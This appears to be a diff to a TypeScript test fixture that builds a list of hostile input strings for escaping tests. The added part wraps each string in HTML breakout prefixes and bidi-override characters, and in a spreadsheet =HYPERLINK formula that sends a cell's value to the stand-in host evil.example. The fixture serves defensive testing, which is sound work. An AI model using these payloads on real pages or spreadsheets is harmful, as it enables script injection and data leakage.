@@ -49,3 +49,12 @@ export const HOSTILE_TEXTS: readonly string[] = [
   'x\u2028<script>alert(1)</script>\u2029',
   'data: x event: done <b>bold</b>',
 ]
+
+/** The same in the places where they would have to break out of, and as formulas and turned text: more than two hundred. */
+export const MANY_HOSTILE_TEXTS: readonly string[] = HOSTILE_TEXTS.flatMap((text) => [
+  text,
+  `'">${text}`,
+  `</option></select></td></table>${text}`,
+  `\u2067${text}\u2069`,
+  `=HYPERLINK("https://evil.example/?"&A1,"${text}")`,
+])
